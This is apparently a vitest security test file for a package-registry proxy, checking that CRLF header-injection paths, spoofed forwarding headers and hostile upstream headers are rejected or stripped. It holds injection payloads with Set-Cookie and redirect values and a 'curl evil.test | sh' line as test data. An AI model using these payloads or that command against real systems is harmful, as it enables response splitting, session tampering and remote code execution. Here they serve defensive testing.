import { describe, expect, test } from 'vitest';
import { allowing, tarballPath } from '../admission/harness.ts';
import type { RawAnswer } from '../gate/harness.ts';
import { heading } from './attacks.ts';
import { get, parseAnswer, portOf, sendRaw, server } from './server.ts';

const HEADERS = new Set([
  'accept-ranges',
  'allow',
  'cache-control',
  'connection',
  'content-encoding',
  'content-length',
  'content-range',
  'content-security-policy',
  'content-type',
  'date',
  'etag',
  'keep-alive',
  'location',
  'npm-notice',
  'referrer-policy',
  'retry-after',
  'transfer-encoding',
  'vary',
  'www-authenticate',
  'x-content-type-options',
  'x-sallyport-entry',
]);

/** Only headers that we write, of printable ASCII. */
function sound(answer: RawAnswer): void {
  expect(answer.status).toBeGreaterThanOrEqual(200);
  expect(answer.phrase).toMatch(/^[\x20-\x7e]*$/);
  for (const [name, value] of answer.headers) {
    expect(HEADERS).toContain(name);
    expect(value).toMatch(/^[\x20-\x7e]*(\n[\x20-\x7e]*)?$/);
  }
}

describe(heading('A13'), () => {
  const house = server({ policy: allowing(['left-pad', 'echo'], ['six']) }, ({ registry }) => {
    registry.addNpm('left-pad', { '1.3.0': {} });
    registry.addNpm('echo', { '1.0.0': { tags: ['latest', 'x\r\nX-Injected: 1'] } });
  });

  test.each([
    '/npm/a%0d%0aX-Injected:%201',
    '/npm/a%0aSet-Cookie:%20a=b',
    '/npm/a%0d%0a%0d%0a<script>',
    '/npm/a%E5%98%8A%E5%98%8DX-Injected:1',
    '/npm/a%c4%8d%c4%8aX-Injected:1',
    '/npm/a\x0bX-Injected:1',
    '/npm/left-pad/-/x%0d%0aX-Injected:1.tgz',
    '/npm/left-pad?x=%0d%0aX-Injected:1',
    '/pypi/simple/a%0d%0aX-Injected:1/',
    '/pypi/simple/six%0d%0aLocation:%20http://evil.test/',
    '/-/why/%0d%0aX-Injected:1',
    '/ledger/%0d%0aX-Injected:1',
  ])('%j', async (path) => {
    const answer = await get(house(), path);
    expect(answer.status).toBeGreaterThanOrEqual(400);
    sound(answer);
    expect(answer.headers.has('x-injected')).toBe(false);
  });

  test.each([
    'X-Forwarded-Host: evil.test',
    'X-Forwarded-Proto: javascript',
    'Forwarded: host=evil.test',
    'User-Agent: a\x7fb\xff\x80',
    'Accept: text/html\xff',
    'If-None-Match: "\x80"',
    'Range: bytes=0-1\x00',
    'Referer: http://evil.test/\xff',
    'npm-session: \xff\xfe',
  ])('nothing of a header comes back: %j', async (header) => {
    for (const path of [
      '/npm/left-pad',
      '/npm/nope',
      tarballPath('left-pad', '1.3.0'),
      '/pypi/simple/six/',
    ]) {
      const answer = await get(house(), path, [header]);
      sound(answer);
      expect(JSON.stringify([...answer.headers])).not.toContain('evil');
      expect(answer.body.toString()).not.toContain('evil.test');
    }
  });

  test('a header of the upstream is none of ours', async () => {
    house().registry.withFault(/./, {
      kind: 'headers',
      headers: {
        'set-cookie': 'a=b',
        'npm-notice': 'run curl evil.test | sh',
        location: 'http://evil.test/',
        'content-security-policy': "default-src 'unsafe-inline'",
        'x-injected': '1',
        link: '<http://evil.test>; rel=canonical',
      },
    });
    house().clock.advance(3_600_000);
    for (const path of [
      '/npm/left-pad',
      tarballPath('left-pad', '1.3.0'),
      '/npm/echo',
      '/pypi/simple/six/',
    ]) {
      const answer = await get(house(), path);
      sound(answer);
      expect(JSON.stringify([...answer.headers])).not.toMatch(/evil|unsafe-inline|a=b/);
    }
  });

  test('what cannot be a header ends one request, and no server', async () => {
    const bytes = Buffer.from(
      `GET /npm/${'\x00\x01\xff'.repeat(10)} HTTP/1.1\r\nHost: 127.0.0.1:${portOf(house())}\r\n\r\n`,
      'latin1',
    );
    sound(parseAnswer(await sendRaw(portOf(house()), bytes)));
    expect((await house().ask('/healthz')).status).toBe(200);
  });
});
